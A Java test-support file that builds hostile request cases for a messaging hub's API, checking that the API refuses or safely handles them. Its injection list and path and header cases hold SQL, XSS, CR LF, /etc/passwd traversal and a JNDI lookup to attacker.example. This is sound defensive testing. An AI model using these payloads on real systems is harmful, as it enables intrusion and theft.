package nl.knooppunt.testsupport.hostile;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import java.util.function.Predicate;
import java.util.regex.Pattern;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

import nl.knooppunt.standard.catalogue.Catalogue;
import nl.knooppunt.testsupport.hostile.HostileCase.Expect;

/**
 * The hostile requests whose answers depend on nothing but the API itself (issue 10's table): malformed JSON,
 * content types, bodies over the limit, nesting and arrays, invalid UTF-8, unicode, injections, unknown fields and
 * attachments. portal-api's HostileInputTest runs them against fakes, the local stack's HostileInputIT against the
 * real services.
 */
public final class HostileCases {

    /**
     * Who the cases' requests come from and go to.
     *
     * @param sender         participant id of the sending counsellor
     * @param recipient      participant id of the receiving creditor
     * @param senderToken    a bearer token acting for the sender
     * @param recipientToken a bearer token acting for the recipient
     * @param echoable       which request values the API may repeat in a problem (plain identifiers)
     */
    public record Parties(String sender, String recipient, String senderToken, String recipientToken,
            Predicate<String> echoable) {
    }

    /** Values an attacker tries in every field: SQL, script, header splitting, paths, templates, LDAP, NoSQL. */
    public static final List<String> INJECTIONS = List.of(
            "' OR '1'='1",
            "1; DROP TABLE mailbox_message;--",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "x\r\nSet-Cookie: knooppunt=1",
            "../../../etc/passwd",
            "..%2F..%2F..%2Fetc%2Fpasswd",
            "${jndi:ldap://attacker.example/a}",
            "{{7*7}}${7*7}#{7*7}",
            "%s%s%s%n%x",
            "*)(uid=*))(|(uid=*",
            "{\"$gt\":\"\"}");

    /** The values portal-api repeats in a problem: plain identifiers (its {@code Echo} rule). */
    public static final Predicate<String> PLAIN_IDENTIFIER = Pattern.compile("[A-Za-z0-9][A-Za-z0-9._:-]{0,99}")
            .asMatchPredicate();

    private static final ObjectMapper JSON = new ObjectMapper();

    private final String sender;
    private final String recipient;
    private final String senderToken;
    private final String recipientToken;
    private final Predicate<String> echoable;

    /** The cases for these parties. */
    public HostileCases(Parties parties) {
        this.sender = parties.sender();
        this.recipient = parties.recipient();
        this.senderToken = parties.senderToken();
        this.recipientToken = parties.recipientToken();
        this.echoable = parties.echoable();
    }

    /** Every case of this class, in table order. */
    public List<HostileCase> all() {
        List<HostileCase> cases = new ArrayList<>();
        malformedJson(cases);
        wrongContentTypes(cases);
        oversizedBodies(cases);
        nestingAndArrays(cases);
        invalidUtf8(cases);
        unicode(cases);
        injections(cases);
        unknownFields(cases);
        attachments(cases);
        return cases;
    }

    /** Bodies that are not JSON, or JSON of the wrong shape: 400. */
    public void malformedJson(List<HostileCase> cases) {
        List<String> bodies = List.of("{", "}", "{\"module\":", "{\"module\":\"x\",}", "{'module':'x'}",
                "{module:\"x\"}", "[1,2", "nul", "tru", "{\"module\":\"x\" \"type\":\"y\"}", "{\"payload\":{\"a\":1,}}",
                "{\"module\":\"\\x\"}", "{\"module\":\"abc", "{\"recipient\":01}", "NaN", "{\"module\":NaN}",
                "/* c */ {}", "{\"payload\":{\"a\":undefined}}", "{\"payload\":{\"a\":0x1F}}", "{\"module\":\"a\"\u0000}",
                "\u0000", "{\"payload\":[}", "{\"a\"::1}", "{\"module\":\"tab\there\"}");
        for (int i = 0; i < bodies.size(); i++) {
            cases.add(submit("malformed JSON", "body " + i + " " + printable(bodies.get(i)), senderToken,
                    "application/json", bodies.get(i).getBytes(StandardCharsets.UTF_8), 400, null));
        }
        for (String shape : List.of("", "   ", "null", "[]", "\"saldoverzoek\"", "123", "true", "[{}]")) {
            cases.add(submit("malformed JSON", "wrong shape '" + shape + "'", senderToken, "application/json",
                    shape.getBytes(StandardCharsets.UTF_8), 400, null));
        }
    }

    /** A valid submission under every content type but JSON: 415. */
    public void wrongContentTypes(List<HostileCase> cases) {
        byte[] body = valid().toString().getBytes(StandardCharsets.UTF_8);
        for (String type : List.of("text/plain", "application/xml", "text/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "application/octet-stream", "text/html", "image/png",
                "application/pdf", "application/problem+json", "application/vnd.api+json", "text/json",
                "application/json-patch+json", "application/javascript")) {
            cases.add(submit("content type", type, senderToken, type, body, 415, "unsupported-media-type"));
        }
        cases.add(submit("content type", "none", senderToken, null, body, 415, "unsupported-media-type"));
    }

    /** Bodies over 1 MiB, declared, sent or chunked, and payloads over 256 KiB: 413. */
    public void oversizedBodies(List<HostileCase> cases) {
        for (String declared : List.of("1048577", "5242880", "1073741824", "9223372036854775807")) {
            cases.add(new HostileCase("body over the limit", "declared " + declared, "POST", "/api/v1/messages",
                    hs(auth(senderToken), ct("application/json")), new byte[0], declared, false, 413,
                    "body-too-large", Expect.REFUSED, List.of(), null));
        }
        byte[] big = padded(1_100_000);
        cases.add(new HostileCase("body over the limit", "1.1 MB sent", "POST", "/api/v1/messages",
                hs(auth(senderToken), ct("application/json")), big, null, false, 413, "body-too-large",
                Expect.REFUSED, List.of(), null));
        cases.add(new HostileCase("body over the limit", "1.1 MB chunked", "POST", "/api/v1/messages",
                hs(auth(senderToken), ct("application/json")), big, null, true, 413, "body-too-large",
                Expect.REFUSED, List.of(), null));
        cases.add(new HostileCase("body over the limit", "1.1 MB without token", "POST", "/api/v1/messages",
                hs(ct("application/json")), big, null, false, 413, "body-too-large", Expect.REFUSED, List.of(),
                null));
        ObjectNode longText = valid();
        ((ObjectNode) longText.get("payload")).put("toelichting", "x".repeat(300_000));
        cases.add(submit("body over the limit", "payload over 256 KiB", senderToken, "application/json",
                bytes(longText), 413, "payload-too-large"));
    }

    /** Deep nesting, huge numbers and names, too many recipients and fields. */
    public void nestingAndArrays(List<HostileCase> cases) {
        for (int depth : List.of(33, 100, 1_000, 20_000)) {
            cases.add(submit("nesting and arrays", "arrays nested " + depth, senderToken, "application/json",
                    ("{\"module\":\"schuldinventarisatie\",\"payload\":" + "[".repeat(depth) + "]".repeat(depth) + "}")
                            .getBytes(StandardCharsets.UTF_8), 400, "json-too-complex"));
            cases.add(submit("nesting and arrays", "objects nested " + depth, senderToken, "application/json",
                    ("{\"payload\":" + "{\"a\":".repeat(depth) + "1" + "}".repeat(depth) + "}")
                            .getBytes(StandardCharsets.UTF_8), 400, "json-too-complex"));
        }
        cases.add(submit("nesting and arrays", "number of 100000 digits", senderToken, "application/json",
                ("{\"payload\":{\"n\":" + "9".repeat(100_000) + "}}").getBytes(StandardCharsets.UTF_8), 400,
                "json-too-complex"));
        cases.add(submit("nesting and arrays", "field name of 10000 characters", senderToken,
                "application/json", ("{\"payload\":{\"" + "k".repeat(10_000) + "\":1}}").getBytes(StandardCharsets.UTF_8),
                400, "json-too-complex"));
        ObjectNode manyRecipients = valid();
        manyRecipients.remove("recipient");
        ArrayNode list = manyRecipients.putArray("recipients");
        for (int i = 0; i < 101; i++) {
            list.add(UUID.randomUUID().toString());
        }
        cases.add(submit("nesting and arrays", "101 recipients", senderToken, "application/json",
                bytes(manyRecipients), 400, "bad-request"));
        for (int i = 0; i < 20_000; i++) {
            list.add(UUID.randomUUID().toString());
        }
        cases.add(submit("nesting and arrays", "20101 recipients", senderToken, "application/json",
                bytes(manyRecipients), 400, "bad-request"));
        ObjectNode duplicates = valid();
        duplicates.remove("recipient");
        duplicates.putArray("recipients").add(recipient).add(recipient);
        cases.add(submit("nesting and arrays", "duplicate recipients", senderToken, "application/json",
                bytes(duplicates), 400, "bad-request"));
        ObjectNode hugeArray = valid();
        ArrayNode numbers = ((ObjectNode) hugeArray.get("payload")).putArray("vorderingen");
        for (int i = 0; i < 150_000; i++) {
            numbers.add(i);
        }
        cases.add(submit("nesting and arrays", "payload array of 150000 numbers", senderToken,
                "application/json", bytes(hugeArray), 413, "payload-too-large"));
        StringBuilder manyKeys = new StringBuilder("{\"payload\":{");
        for (int i = 0; i < 60_000; i++) {
            manyKeys.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":1");
        }
        ObjectNode keys = valid();
        String withKeys = keys.toString().replace("\"payload\":{", manyKeys.substring(1) + ",");
        cases.add(submit("nesting and arrays", "payload with 60000 fields", senderToken, "application/json",
                withKeys.getBytes(StandardCharsets.UTF_8), 413, "payload-too-large"));
    }

    /** Bytes that are not UTF-8 in names, values and between tokens: 400. */
    public void invalidUtf8(List<HostileCase> cases) {
        Map<String, byte[]> sequences = Map.of("C3 28", new byte[] { (byte) 0xC3, 0x28 }, "FF", new byte[] { (byte) 0xFF },
                "overlong C0 AF", new byte[] { (byte) 0xC0, (byte) 0xAF }, "truncated E2 82",
                new byte[] { (byte) 0xE2, (byte) 0x82 }, "F8 88 80 80 80",
                new byte[] { (byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80 }, "lone 80",
                new byte[] { (byte) 0x80 }, "FE FF", new byte[] { (byte) 0xFE, (byte) 0xFF });
        sequences.forEach((name, bad) -> {
            for (String field : List.of("module", "recipient")) {
                byte[] body = concat("{\"" + field + "\":\"ab", bad, "cd\",\"payload\":{}}");
                cases.add(submit("invalid UTF-8", name + " in " + field, senderToken, "application/json", body,
                        400, "malformed-json"));
            }
        });
        cases.add(submit("invalid UTF-8", "C3 28 in a field name", senderToken, "application/json",
                concat("{\"", new byte[] { (byte) 0xC3, 0x28 }, "\":1}"), 400, "malformed-json"));
        cases.add(submit("invalid UTF-8", "FF outside strings", senderToken, "application/json",
                concat("{", new byte[] { (byte) 0xFF }, "}"), 400, "malformed-json"));
        byte[] inPayload = concat(valid().toString().replace("\"payload\":{", "\"payload\":{\"toelichting\":\"x")
                .split("x", 2)[0] + "x", new byte[] { (byte) 0xC3, 0x28 },
                valid().toString().replace("\"payload\":{", "\"payload\":{\"toelichting\":\"x").split("x", 2)[1]
                        .replaceFirst("^", "\","));
        cases.add(submit("invalid UTF-8", "C3 28 in a payload value", senderToken, "application/json",
                inPayload, 400, "malformed-json"));
    }

    /** Look-alike, invisible and control characters in identifiers (refused) and free text (accepted). */
    public void unicode(List<HostileCase> cases) {
        Map<String, String> modules = Map.of("right-to-left override", "schuld\u202Einventarisatie",
                "zero-width space", "schuld\u200Binventarisatie", "Cyrillic a", "schuldinvent\u0430risatie",
                "fullwidth", "\uFF53chuldinventarisatie", "emoji", "schuldinventarisatie\uD83D\uDCA3",
                "NUL", "schuldinventarisatie\u0000", "combining acute", "schuldinventarisatie\u0301",
                "BOM inside", "\uFEFFschuldinventarisatie", "line separator", "schuld\u2028inventarisatie",
                "upper case", "SCHULDINVENTARISATIE");
        modules.forEach((name, module) -> {
            ObjectNode body = valid();
            body.put("module", module);
            cases.add(submit("unicode", name + " in module", senderToken, "application/json", bytes(body),
                    422, "standard-violation").withSecrets(echoable.test(module) ? List.of() : List.of(module)));
        });
        for (String recipient : List.of(fullwidthFirstDigit(sender),
                recipient + "\u200B", "\u0000", recipient.replace('-', '\u2010'))) {
            ObjectNode body = valid();
            body.put("recipient", recipient);
            cases.add(submit("unicode", "recipient " + printable(recipient), senderToken, "application/json",
                    bytes(body), 400, "bad-request"));
        }
        ObjectNode lone = valid();
        String loneSurrogate = valid().toString().replace("\"payload\":{", "\"payload\":{\"toelichting\":\"\\uD800\",");
        cases.add(submit("unicode", "lone surrogate escape in free text", senderToken, "application/json",
                loneSurrogate.getBytes(StandardCharsets.UTF_8), 201, null).expecting(Expect.ACCEPTED));
        ((ObjectNode) lone.get("payload")).put("toelichting", "Zo\u0308e \uD83D\uDE00 \u202Eevil \u0000 \u00A0");
        cases.add(submit("unicode", "emoji, RTL, NUL and combining marks in free text", senderToken,
                "application/json", bytes(lone), 201, null).expecting(Expect.ACCEPTED));
    }

    /** Every injection in every field, parameter and header that reaches the hub; path traversal; CR LF. */
    public void injections(List<HostileCase> cases) {
        for (int i = 0; i < INJECTIONS.size(); i++) {
            String value = INJECTIONS.get(i);
            String n = "#" + i + " " + printable(value);
            String enc = URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
            List<String> secret = List.of(value);
            for (String field : List.of("module", "type")) {
                ObjectNode body = valid();
                body.put(field, value);
                cases.add(submit("injection", n + " in " + field, senderToken, "application/json",
                        bytes(body), 422, "standard-violation").withSecrets(secret));
            }
            for (String field : List.of("recipient", "inReplyTo")) {
                ObjectNode body = valid();
                body.put(field, value);
                cases.add(submit("injection", n + " in " + field, senderToken, "application/json",
                        bytes(body), 400, "bad-request").withSecrets(secret));
            }
            ObjectNode many = valid();
            many.remove("recipient");
            many.putArray("recipients").add(recipient).add(value);
            cases.add(submit("injection", n + " in recipients", senderToken, "application/json", bytes(many),
                    400, "bad-request").withSecrets(secret));
            ObjectNode text = valid();
            ((ObjectNode) text.get("payload")).put("toelichting", value);
            cases.add(submit("injection", n + " in a payload text", senderToken, "application/json",
                    bytes(text), 201, null).expecting(Expect.ACCEPTED).withSecrets(secret));
            cases.add(new HostileCase("injection", n + " in Knooppunt-Participant", "GET", "/api/v1/inbox",
                    hs(auth(senderToken), h("Knooppunt-Participant", value)), null, null, false, 403,
                    "forbidden", Expect.REFUSED, secret, null));
            cases.add(submit("injection", n + " in Idempotency-Key", senderToken, "application/json",
                    bytes(valid()), 201, null).expecting(Expect.ACCEPTED).withHeader(h("Idempotency-Key", value + i))
                    .withSecrets(secret));
            cases.add(get("injection", n + " as inbox id", "/api/v1/inbox/" + enc, recipientToken, 404,
                    "not-found").withSecrets(secret));
            cases.add(new HostileCase("injection", n + " as id to acknowledge", "POST", "/api/v1/inbox/" + enc + "/ack",
                    hs(auth(recipientToken)), null, null, false, 404, "not-found", Expect.REFUSED, secret,
                    null));
            cases.add(get("injection", n + " as message id", "/api/v1/messages/" + enc, recipientToken, 404,
                    "not-found").withSecrets(secret));
            cases.add(get("injection", n + " as module of the standard", "/api/v1/standard/" + enc + "/saldoverzoek",
                    null, 404, "not-found").withSecrets(secret));
            cases.add(get("injection", n + " as inbox cursor", "/api/v1/inbox?after=" + enc, recipientToken, 400,
                    "bad-request").withSecrets(secret));
            cases.add(get("injection", n + " as inbox sender", "/api/v1/inbox?sender=" + enc, recipientToken,
                    400, "bad-request").withSecrets(secret));
            cases.add(get("injection", n + " as events cursor", "/api/v1/events?after=" + enc, recipientToken,
                    400, "bad-request").withSecrets(secret));
            cases.add(get("injection", n + " as inbox module filter", "/api/v1/inbox?module=" + enc,
                    recipientToken, 200, null).expecting(Expect.OK).withSecrets(secret));
        }
        for (String path : List.of("/api/v1/inbox/../../../etc/passwd", "/api/v1/inbox/..%2F..%2F..%2Fetc%2Fpasswd",
                "/api/v1/inbox/%2e%2e%2f%2e%2e%2fq%2fhealth", "/api/v1/standard/..%2F..%2F..%2Fetc/passwd",
                "/api/v1/inbox/%00", "/api/v1/inbox/a%0d%0aSet-Cookie:%20x=1")) {
            cases.add(get("path traversal", path, path, recipientToken, 404, "not-found"));
        }
        cases.add(new HostileCase("header injection", "CR LF in Knooppunt-Participant", "GET", "/api/v1/inbox",
                hs(auth(senderToken), h("Knooppunt-Participant", sender + "\r\nX-Injected: 1")),
                null, null, false, 200, null, Expect.OK, List.of(), null));
        cases.add(new HostileCase("header injection", "CR LF in Idempotency-Key", "GET", "/api/v1/inbox",
                hs(auth(senderToken), h("Idempotency-Key", "k\r\nSet-Cookie: knooppunt=1")), null, null,
                false, 200, null, Expect.OK, List.of(), null));
    }

    /** Fields the API does not know, at the top (400) and in the payload (judged 422). */
    public void unknownFields(List<HostileCase> cases) {
        for (String field : List.of("attachments", "sender", "conversationId", "status", "__proto__", "constructor",
                "Module", "payload ", "id", "messageId")) {
            ObjectNode body = valid();
            body.put(field, "x");
            cases.add(submit("unknown field", "top-level '" + field + "'", senderToken, "application/json",
                    bytes(body), 400, "unknown-field"));
        }
        ObjectNode nested = valid();
        ((ObjectNode) nested.get("payload")).put("onbekendVeld", "x");
        cases.add(submit("unknown field", "in the payload", senderToken, "application/json", bytes(nested),
                422, "standard-violation").expecting(Expect.JUDGED));
        ObjectNode client = valid();
        ((ObjectNode) client.get("payload").get("client")).put("wachtwoord", "geheim-waarde-123");
        cases.add(submit("unknown field", "in the payload's client", senderToken, "application/json",
                bytes(client), 422, "standard-violation").expecting(Expect.JUDGED)
                .withSecrets(List.of("geheim-waarde-123")));
    }

    /** Attachments whose content, type or name lie, and one that does not. */
    public void attachments(List<HostileCase> cases) {
        String pdf = Base64.getEncoder().encodeToString("%PDF-1.7\n%hostile\n".getBytes(StandardCharsets.US_ASCII));
        String png = Base64.getEncoder().encodeToString(new byte[] { (byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10 });
        String html = Base64.getEncoder().encodeToString("<html><script>x</script></html>"
                .getBytes(StandardCharsets.US_ASCII));
        cases.add(attachment("PNG labelled application/pdf", "scan.pdf", "application/pdf", png, 422));
        cases.add(attachment("HTML labelled application/pdf", "brief.pdf", "application/pdf", html, 422));
        cases.add(attachment("not base64", "brief.pdf", "application/pdf", "!!! not base64 ###", 422));
        cases.add(attachment("PDF labelled text/html", "brief.pdf", "text/html", pdf, 422));
        cases.add(attachment("PDF named .exe", "brief.exe", "application/pdf", pdf, 422));
        cases.add(attachment("PDF named with a path", "../../etc/passwd.pdf", "application/pdf", pdf, 422));
        cases.add(attachment("empty content", "brief.pdf", "application/pdf", "", 422));
        String oversized = Base64.getEncoder().encodeToString(concat("%PDF-1.7\n", new byte[200_000], ""));
        cases.add(attachment("200 kB attachment: payload over 256 KiB", "groot.pdf", "application/pdf", oversized, 413)
                .status(413, "payload-too-large", Expect.REFUSED));
        cases.add(attachment("well-formed PDF", "beschikking.pdf", "application/pdf", pdf, 201)
                .status(201, null, Expect.ACCEPTED));
    }


    /** A valid saldoverzoek from the sender to the recipient: the standard's own example. */
    public ObjectNode valid() {
        return valid(recipient);
    }

    /** A valid saldoverzoek to this recipient: the standard's own example. */
    public static ObjectNode valid(String recipient) {
        ObjectNode body = JSON.createObjectNode();
        body.put("module", "schuldinventarisatie").put("type", "saldoverzoek").put("recipient", recipient);
        body.set("payload", Catalogue.standard().messageType("schuldinventarisatie", "saldoverzoek").orElseThrow()
                .example().deepCopy());
        return body;
    }

    private HostileCase attachment(String name, String fileName, String mediaType, String content, int status) {
        ObjectNode body = valid();
        ((ObjectNode) body.get("payload")).putArray("bijlagen").addObject().put("soort", "overig")
                .put("naam", fileName).put("mediaType", mediaType).put("inhoud", content);
        return submit("attachment", name, senderToken, "application/json", bytes(body), status,
                status == 422 ? "standard-violation" : null).expecting(status == 422 ? Expect.JUDGED : Expect.ACCEPTED);
    }

    /** A submission ({@code POST /api/v1/messages}); 201 expects ACCEPTED, anything else REFUSED. */
    public static HostileCase submit(String category, String name, String token, String contentType, byte[] body,
            int status, String problem) {
        List<String[]> headers = new ArrayList<>();
        if (token != null) {
            headers.add(auth(token));
        }
        if (contentType != null) {
            headers.add(ct(contentType));
        }
        return new HostileCase(category, name, "POST", "/api/v1/messages", headers, body, null, false, status, problem,
                status == 201 ? Expect.ACCEPTED : Expect.REFUSED, List.of(), null);
    }

    /** A GET; a status below 300 expects OK, anything else REFUSED. */
    public static HostileCase get(String category, String name, String path, String token, int status,
            String problem) {
        List<String[]> headers = new ArrayList<>();
        if (token != null) {
            headers.add(auth(token));
        }
        return new HostileCase(category, name, "GET", path, headers, null, null, false, status, problem,
                status < 300 ? Expect.OK : Expect.REFUSED, List.of(), null);
    }

    /** Headers as a list. */
    public static List<String[]> hs(String[]... all) {
        return List.of(all);
    }

    /** {@code Authorization: Bearer <token>}. */
    public static String[] auth(String token) {
        return h("Authorization", "Bearer " + token);
    }

    /** {@code Content-Type}. */
    public static String[] ct(String type) {
        return h("Content-Type", type);
    }

    /** A header. */
    public static String[] h(String name, String value) {
        return new String[] { name, value };
    }

    /** JSON as UTF-8 bytes. */
    public static byte[] bytes(JsonNode node) {
        return node.toString().getBytes(StandardCharsets.UTF_8);
    }

    /** A value as a case name shows it: printable ASCII, anything else as a Java unicode escape; 40 at most. */
    public static String printable(String value) {
        StringBuilder out = new StringBuilder();
        value.codePoints().limit(40).forEach(cp -> out.append(cp >= 0x20 && cp < 0x7F ? Character.toString(cp)
                : String.format(Locale.ROOT, "\\u%04X", cp)));
        return out.toString();
    }

    private static byte[] padded(int size) {
        String start = "{\"module\":\"schuldinventarisatie\",\"payload\":{\"toelichting\":\"";
        return (start + "x".repeat(size - start.length() - 3) + "\"}}").getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(String before, byte[] middle, String after) {
        byte[] a = before.getBytes(StandardCharsets.UTF_8);
        byte[] c = after.getBytes(StandardCharsets.UTF_8);
        byte[] all = new byte[a.length + middle.length + c.length];
        System.arraycopy(a, 0, all, 0, a.length);
        System.arraycopy(middle, 0, all, a.length, middle.length);
        System.arraycopy(c, 0, all, a.length + middle.length, c.length);
        return all;
    }

    /** The id with its first digit in fullwidth form (U+FF10 to U+FF19): looks the same, is another string. */
    private static String fullwidthFirstDigit(String id) {
        return (char) ('\uFF10' + (id.charAt(0) - '0')) + id.substring(1);
    }
}
